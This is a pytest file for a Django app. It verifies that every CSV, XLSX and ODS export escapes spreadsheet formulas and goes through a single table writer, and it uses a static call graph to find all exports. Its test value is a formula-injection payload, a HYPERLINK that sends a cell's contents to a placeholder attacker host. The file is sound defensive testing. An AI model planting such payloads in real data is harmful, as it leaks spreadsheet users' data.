"""Every CSV, XLSX and ODS file goes through the one table writer (accroche/tables.py),
and every export neutralises a formula typed in a text field it shows.

The exports are found, not listed by hand: a small static call graph of accroche/ finds
every view, API endpoint and command that reaches the writer, and the test fails if one
of them has no case below. A source scan fails if a module writes CSV or spreadsheets
without the writer."""

import ast
import csv
import inspect
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from odf import teletype
from odf.opendocument import load as load_ods
from odf.table import TableCell

from accroche import tables
from accroche.access import audit
from accroche.access.actor import Actor
from accroche.access.roles import Role
from accroche.accounts.tokens import do_create_token
from tests.factories.organisations import MembershipFactory, StructureFactory
from tests.factories.territory import CommuneFactory
from tests.factories.territory_services import ServiceFactory
from tests.reports.conftest_b import (  # noqa: F401
    FseScene,
    as_role,
    evaluation_consents,
    fse_programme,
    fse_scene,
)

ROOT = Path(__file__).resolve().parent.parent
PACKAGE = ROOT / "accroche"
FORMULA = '=HYPERLINK("https://pirate.invalid/?d="&A1;"Cliquez")'
WRITER = "accroche/tables.py"
WRITER_FUNCTIONS = {("accroche.tables", "render"), ("accroche.tables", "csv_text")}


# --- reading what an export wrote ---------------------------------------------------------


@dataclass
class Cell:
    text: str
    formula: bool  # the spreadsheet would run it


def read_cells(content: bytes, fmt: str, delimiter: str = ";") -> list[Cell]:
    if fmt == "csv":
        text = content.decode("utf-8-sig")
        rows = csv.reader(io.StringIO(text), delimiter=delimiter)
        return [Cell(c, c.startswith("=")) for row in rows for c in row]
    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(content))
        return [
            Cell(str(c.value), c.data_type == "f")
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for c in row
            if c.value is not None
        ]
    assert fmt == "ods"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"table:formula" not in archive.read("content.xml")
    document = load_ods(io.BytesIO(content))
    return [
        Cell(teletype.extractText(c), bool(c.getAttribute("formula")))
        for c in document.spreadsheet.getElementsByType(TableCell)
    ]


def assert_neutralised(cells: list[Cell]) -> None:
    assert not [c for c in cells if c.formula]
    assert not [c for c in cells if c.text.startswith(tables.FORMULA_STARTS)]
    assert "'" + FORMULA in [c.text for c in cells]


# --- the exports ------------------------------------------------------------------------


@dataclass
class Export:
    """An export, the function that serves it, and how to get it with FORMULA in a text
    field it shows: ``run(fixture, fmt)`` → (content, CSV delimiter)."""

    entry: tuple[str, str]  # (module, function) that reaches the writer
    formats: tuple[str, ...]
    run: Callable[[Callable[[str], Any], str], tuple[bytes, str]]


def _fse(fx: Callable[[str], Any], fmt: str) -> tuple[bytes, str]:
    # Only labels and pseudonyms reach the FSE tables: the formula goes in as a pseudonym.
    fx("monkeypatch").setattr("accroche.reports.fse_tables.pseudonym", lambda *a: FORMULA)
    scene: FseScene = fx("fse_scene")
    client = fx("as_role")(Role.COORDINATOR)
    url = reverse("reports:fse_export", args=[fmt])
    reply = client.get(f"{url}?{scene.query()}&table=participants")
    assert reply.status_code == 200
    return reply.content, ";"


def _scene_commune(scene: FseScene) -> None:
    """Every young person of the scene lives in a commune whose name is a formula (the
    names come from files loaded from outside)."""
    commune = CommuneFactory(name=FORMULA)
    for youth in scene.youths.values():
        youth.residence_commune = commune
        youth.save(update_fields=["residence_commune"])


def _pic(fx: Callable[[str], Any], fmt: str) -> tuple[bytes, str]:
    scene: FseScene = fx("fse_scene")
    _scene_commune(scene)
    client = fx("as_role")(Role.COORDINATOR)
    url = reverse("reports:pic_export", args=[fmt])
    reply = client.get(f"{url}?{scene.query()}&table=communes")
    assert reply.status_code == 200
    return reply.content, ";"


def _evaluation(fx: Callable[[str], Any], fmt: str) -> tuple[bytes, str]:
    scene: FseScene = fx("fse_scene")
    _scene_commune(scene)  # six people share it: not masked as a small cell
    fx("evaluation_consents")
    client = fx("as_role")(Role.EVALUATOR)
    url = reverse("reports:evaluation")
    reply = client.post(f"{url}?{scene.query()}", {"key": "", "fmt": fmt})
    assert reply.status_code == 200
    return reply.content, ";"


def _audit(fx: Callable[[str], Any], fmt: str) -> tuple[bytes, str]:
    # A structure's name is typed by an administrator; the journal shows who did what.
    structure = StructureFactory(name=FORMULA)
    dpo = MembershipFactory(role=Role.DPO, structure=structure)
    audit.log(Actor(user=dpo.user, membership=dpo), "read", "youth", 1)
    client = fx("login")(dpo)
    reply = client.get(reverse("audit:journal"), {"format": "csv"})
    assert reply.status_code == 200
    return reply.content, ";"


def _service(fx: Callable[[str], Any]) -> None:
    ServiceFactory(structure=fx("structure"), name=FORMULA, phone="+33 6 12 34 56 78")


def _services_page(fx: Callable[[str], Any], fmt: str) -> tuple[bytes, str]:
    _service(fx)
    client = fx("login")(MembershipFactory(role=Role.COORDINATOR, structure=fx("structure")))
    reply = client.get(reverse("territory:service_export_csv"))
    assert reply.status_code == 200
    return reply.content, ","


def _services_api(fx: Callable[[str], Any], fmt: str) -> tuple[bytes, str]:
    _service(fx)
    membership = MembershipFactory(role=Role.COORDINATOR, structure=fx("structure"))
    _token, secret = do_create_token(membership.user, membership, "tests")
    client = Client(headers={"Authorization": f"Bearer {secret}"})
    reply = client.get("/api/territory/services/export", {"format": "csv"})
    assert reply.status_code == 200
    return reply.content, ","


def _services_command(fx: Callable[[str], Any], fmt: str) -> tuple[bytes, str]:
    _service(fx)
    out = io.StringIO()
    call_command("export_services", "--format", "csv", stdout=out)
    return out.getvalue().encode(), ","


ALL = ("xlsx", "ods", "csv")
EXPORTS: dict[str, Export] = {
    "fse": Export(("accroche.www.reports_views.fse", "fse_export"), ALL, _fse),
    "pic": Export(("accroche.www.reports_views.pic", "pic_export"), ALL, _pic),
    "evaluation": Export(("accroche.www.reports_views.exports", "evaluation"), ALL, _evaluation),
    "audit": Export(("accroche.www.audit_views.views", "journal"), ("csv",), _audit),
    "services_page": Export(
        ("accroche.www.territory_views.service_views", "service_export"), ("csv",), _services_page
    ),
    "services_api": Export(("accroche.api.territory", "export_services"), ("csv",), _services_api),
    "services_command": Export(
        ("accroche.partner_services.management.commands.export_services", "Command.handle"),
        ("csv",),
        _services_command,
    ),
}
CASES = [(name, fmt) for name, export in EXPORTS.items() for fmt in export.formats]


@pytest.fixture
def writer_calls(monkeypatch: pytest.MonkeyPatch) -> list[set[tuple[str, str]]]:
    """Each table the writer writes: the (module, function) frames that asked for it."""
    calls: list[set[tuple[str, str]]] = []
    real = tables.dataset

    def spy(table: tables.Table) -> Any:
        calls.append(
            {
                (str(frame.f_globals.get("__name__")), frame.f_code.co_qualname)
                for frame, *_rest in inspect.stack()
            }
        )
        return real(table)

    monkeypatch.setattr(tables, "dataset", spy)
    return calls


@pytest.mark.parametrize(("name", "fmt"), CASES)
def test_every_export_neutralises_formulas(
    name: str,
    fmt: str,
    writer_calls: list[set[tuple[str, str]]],
    request: pytest.FixtureRequest,
) -> None:
    export = EXPORTS[name]
    content, delimiter = export.run(request.getfixturevalue, fmt)
    assert_neutralised(read_cells(content, fmt, delimiter))
    assert any(export.entry in frames for frames in writer_calls)


# --- finding the exports ------------------------------------------------------------------


def _modules() -> Iterator[tuple[str, ast.Module]]:
    for path in sorted(PACKAGE.rglob("*.py")):
        if "migrations" in path.parts:
            continue
        name = ".".join(path.relative_to(ROOT).with_suffix("").parts).removesuffix(".__init__")
        yield name, ast.parse(path.read_text(), str(path))


def _functions(tree: ast.Module) -> Iterator[tuple[str, ast.AST]]:
    for node in tree.body:
        if isinstance(node, ast.FunctionDef):
            yield node.name, node
        elif isinstance(node, ast.ClassDef):
            for item in node.body:
                if isinstance(item, ast.FunctionDef):
                    yield f"{node.name}.{item.name}", item


def _imports(module: str, tree: ast.Module) -> dict[str, str]:
    """Local name → what it stands for ("package.module" or "package.module.name")."""
    names: dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            for alias in node.names:
                names[alias.asname or alias.name] = f"{node.module}.{alias.name}"
        elif isinstance(node, ast.Import):
            for alias in node.names:
                names[alias.asname or alias.name] = alias.name
    return names


def _resolve(target: str, modules: dict[str, dict[str, str]]) -> tuple[str, str]:
    """ "a.b.c.f" → (module, function), following re-exports (``from x import f``)."""
    module, _dot, function = target.rpartition(".")
    for _step in range(5):
        again = modules.get(module, {}).get(function)
        if again is None or "." not in again:
            break
        module, _dot, function = again.rpartition(".")
    return module, function


def entry_points() -> set[tuple[str, str]]:
    """Every view, API endpoint and command that reaches the writer, by a fixed point
    over the calls each function makes (resolved through its module's imports)."""
    trees = dict(_modules())
    imports = {name: _imports(name, tree) for name, tree in trees.items()}
    calls: dict[tuple[str, str], set[tuple[str, str]]] = {}
    for module, tree in trees.items():
        local = {name for name, _node in _functions(tree)}
        for function, node in _functions(tree):
            found = set()
            for call in ast.walk(node):
                if not isinstance(call, ast.Call):
                    continue
                func = call.func
                if isinstance(func, ast.Name):
                    if func.id in local:
                        found.add((module, func.id))
                    elif func.id in imports[module]:
                        found.add(_resolve(imports[module][func.id], imports))
                elif isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
                    base = imports[module].get(func.value.id)
                    if base:
                        found.add(_resolve(f"{base}.{func.attr}", imports))
            calls[(module, function)] = found
    reaching = set(WRITER_FUNCTIONS)
    while True:
        more = {f for f, called in calls.items() if called & reaching} - reaching
        if not more:
            break
        reaching |= more
    outer = re.compile(r"^accroche\.(www|api)\.|\.management\.commands\.")
    return {f for f in reaching if outer.search(f[0])}


def test_every_export_is_tested() -> None:
    found = entry_points()
    assert found == {export.entry for export in EXPORTS.values()}


WRITING = re.compile(
    r"^\s*(import|from)\s+(tablib|openpyxl|odf|xlsxwriter|pyexcel)\b"
    r"|\bcsv\.(writer|DictWriter)\s*\(",
    re.MULTILINE,
)


def test_no_module_writes_a_table_without_the_writer() -> None:
    offenders = [
        str(path.relative_to(ROOT))
        for path in PACKAGE.rglob("*.py")
        if str(path.relative_to(ROOT)) != WRITER and WRITING.search(path.read_text())
    ]
    assert offenders == []
